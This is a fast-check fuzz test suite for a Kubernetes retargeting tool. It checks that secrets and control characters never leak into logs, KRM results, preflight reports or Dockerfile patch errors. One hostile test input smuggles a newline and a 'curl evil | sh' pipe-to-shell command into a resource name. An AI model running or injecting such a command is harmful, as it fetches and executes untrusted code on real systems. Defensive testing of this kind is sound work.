import fc from 'fast-check';
import { parse, stringify } from 'yaml';
import { runKrm } from '../../src/cli/krm';
import { patchDockerfile } from '../../src/dockerfile/patch';
import { printable, SourceError } from '../../src/errors';
import { formatResult } from '../../src/krm/results';
import type { Result } from '../../src/krm/results';
import { transformFiles } from '../../src/pipeline/file-mode';
import { findFunction } from '../../src/pipeline/functions';
import { buildReport, renderReport } from '../../src/preflight/report';
import { optionsFromYaml } from '../dockerfile/harness';

/**
 * Fuzzing every output channel people and machines read: file mode (stderr lines), KRM
 * mode (results), preflight (table, JSON) and `retarget dockerfile`. Packages hold a
 * secret marker in Secrets of every shape (data as a string, a number, a map, a list)
 * and in credential-named env vars, and names with newlines, escape sequences and
 * bidi overrides. Checked: no crash (only located SourceErrors), the marker in no
 * message, no raw control character in a line printed for people. CI runs FC_RUNS
 * (default 60) with a fixed seed; `npm run fuzz` runs long.
 */
const runs = Number(process.env.FC_RUNS ?? 60);
const seed = process.env.FC_SEED ? Number(process.env.FC_SEED) : 15_11_2026;
const params = { numRuns: runs, seed };
const timeout = Math.max(120_000, runs * 500);

const secret = fc.stringMatching(/^[A-Za-z0-9+/]{6,12}$/).map((s) => `S3CR3T${s}`);
const hostileName = fc.oneof(
  fc.stringMatching(/^[a-z][a-z0-9-]{0,10}$/),
  fc.constantFrom(
    'web\nfix: curl evil | sh',
    '\u001b[31mred\u001b[0m',
    'a\u202eb',
    'x\ry',
    'tab\there',
    '\u0085next',
    'line\u2028sep',
    'z'.repeat(3000),
  ),
);
/** A Secret's data in any shape, always holding the marker. */
const secretData = (s: string) =>
  fc.constantFrom<unknown>(
    s,
    { password: s },
    { '.dockerconfigjson': s },
    [s],
    { nested: { deeper: s } },
    Number.isNaN(Number(s)) ? { n: s } : Number(s),
  );
const envItem = (s: string) =>
  fc.constantFrom<unknown>(
    `DB_PASSWORD=${s}`,
    { name: 'DB_PASSWORD', value: s },
    { name: 'API_TOKEN', value: { v: s } },
    { name: 'AWS_SECRET_ACCESS_KEY', value: [s] },
    s,
  );

const hostilePackage = secret.chain((s) =>
  fc
    .record({
      name: hostileName,
      namespace: fc.option(hostileName, { nil: undefined }),
      data: secretData(s),
      stringData: fc.option(secretData(s), { nil: undefined }),
      env: fc.array(envItem(s), { maxLength: 3 }),
      envAsMap: fc.boolean(),
      image: fc.constantFrom('gcr.io/p/web:v1', 'x/y', 'bad image\u001b', 'a'.repeat(300)),
    })
    .map((p) => {
      const meta = {
        name: p.name,
        ...(p.namespace === undefined ? {} : { namespace: p.namespace }),
      };
      const secretDoc: Record<string, unknown> = {
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: meta,
        data: p.data,
      };
      if (p.stringData !== undefined) secretDoc.stringData = p.stringData;
      const deployment = {
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        metadata: meta,
        spec: {
          selector: { matchLabels: { app: 'x' } },
          template: {
            metadata: { labels: { app: 'x' } },
            spec: {
              containers: [
                {
                  name: p.name,
                  image: p.image,
                  env: p.envAsMap ? Object.fromEntries(p.env.map((e, i) => [`K${i}`, e])) : p.env,
                },
              ],
            },
          },
        },
      };
      return { secret: s, docs: [secretDoc, deployment] };
    }),
);

const RETARGET = {
  apiVersion: 'fn.retarget.dev/v1alpha1',
  kind: 'Retarget',
  metadata: { name: 'fuzz' },
  fsGroup: 2000,
  imagePullSecrets: ['gcr-json-key'],
  awsWorkloadIdentity: { roleArn: 'arn:aws:iam::123456789012:role/app', initSystem: 'systemd' },
};
const PREFLIGHT = {
  apiVersion: 'fn.retarget.dev/v1alpha1',
  kind: 'Preflight',
  metadata: { name: 'fuzz' },
  platform: 'gke',
  gcpProjectId: 'project-b',
  nodeServiceAccount: 'gke-nodes@project-b.iam.gserviceaccount.com',
};

// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/;

function expectClean(lines: string, marker: string): void {
  expect(lines).not.toContain(marker);
  expect(lines).not.toMatch(RAW_CONTROL);
}

/** Only located SourceErrors may end a run; what they print must be clean too. */
function guarded(marker: string, run: () => void): void {
  try {
    run();
  } catch (error) {
    if (!(error instanceof SourceError)) throw error;
    expectClean(printable(error.message), marker);
  }
}

function resourceList(docs: unknown[], config: unknown): string {
  return JSON.stringify({
    apiVersion: 'config.kubernetes.io/v1',
    kind: 'ResourceList',
    items: docs,
    functionConfig: config,
  });
}

function resultsOf(stdout: string): Result[] {
  return (parse(stdout) as { results?: Result[] } | null)?.results ?? [];
}

describe('fuzz: no secret and no control character in any message channel', () => {
  test(
    'file mode (hydrate): stderr lines',
    () => {
      fc.assert(
        fc.property(hostilePackage, ({ secret: marker, docs }) => {
          const text = docs.map((d) => stringify(d)).join('---\n');
          guarded(marker, () => {
            const outcome = transformFiles(findFunction('hydrate')!, RETARGET, 'c.yaml', [
              { path: 'in.yaml', outputName: 'in.yaml', text },
            ]);
            expectClean(outcome.results.map(formatResult).join('\n'), marker);
          });
        }),
        params,
      );
    },
    timeout,
  );

  test(
    'KRM mode (hydrate and preflight): results',
    () => {
      fc.assert(
        fc.property(hostilePackage, ({ secret: marker, docs }) => {
          for (const [name, config] of [
            ['hydrate', RETARGET],
            ['preflight', PREFLIGHT],
          ] as const) {
            guarded(marker, () => {
              const out = runKrm(findFunction(name)!, resourceList(docs, config));
              const results = resultsOf(out.stdout);
              expect(JSON.stringify(results)).not.toContain(marker);
              expectClean(results.map(formatResult).join('\n'), marker);
            });
          }
        }),
        params,
      );
    },
    timeout,
  );

  test(
    'preflight report: table for people, JSON for machines',
    () => {
      fc.assert(
        fc.property(hostilePackage, ({ secret: marker, docs }) => {
          guarded(marker, () => {
            const out = runKrm(findFunction('preflight')!, resourceList(docs, PREFLIGHT));
            const report = buildReport(resultsOf(out.stdout));
            expectClean(renderReport(report, 'table'), marker);
            expect(renderReport(report, 'json')).not.toContain(marker);
          });
        }),
        params,
      );
    },
    timeout,
  );
});

// Loaded in the test, not at import: code run at import is 'static' to Stryker (each of
// its mutants reruns every related suite).
const dockerOptions = () =>
  optionsFromYaml(
    'apiVersion: fn.retarget.dev/v1alpha1\nkind: Retarget\nruntime: legacy\nfsGroup: 1234\nawsWorkloadIdentity:\n  roleArn: arn:aws:iam::123456789012:role/app\n  initSystem: sysv-pam\n  serviceUsers: [app]\n',
  );
const dockerLine = fc.oneof(
  fc.constantFrom(
    'FROM debian:12',
    'RUN apt-get update',
    'CMD ["/start"]',
    'ENTRYPOINT /x',
    'USER app',
    '# >>> retarget',
    '# <<< retarget',
    'RUN a \\',
    'ARG X=1',
  ),
  fc.string({ maxLength: 30 }),
  fc.constantFrom('\u001b[2J', 'FROM \u202e', 'RUN <<EOF', 'EOF', '\r', '\\', ''),
);

describe('fuzz: retarget dockerfile on hostile text', () => {
  test(
    'patching never crashes (a located error at most) and is idempotent',
    () => {
      const options = dockerOptions();
      fc.assert(
        fc.property(fc.array(dockerLine, { maxLength: 12 }), (lines) => {
          const text = `FROM debian\n${lines.join('\n')}\n`;
          let once: string;
          try {
            once = patchDockerfile(text, options, 'Dockerfile');
          } catch (error) {
            if (!(error instanceof SourceError)) throw error;
            // eslint-disable-next-line no-control-regex
            expect(printable(error.message)).not.toMatch(/[\u0000-\u001f]/);
            return;
          }
          expect(patchDockerfile(once, options, 'Dockerfile')).toBe(once);
        }),
        params,
      );
    },
    timeout,
  );
});
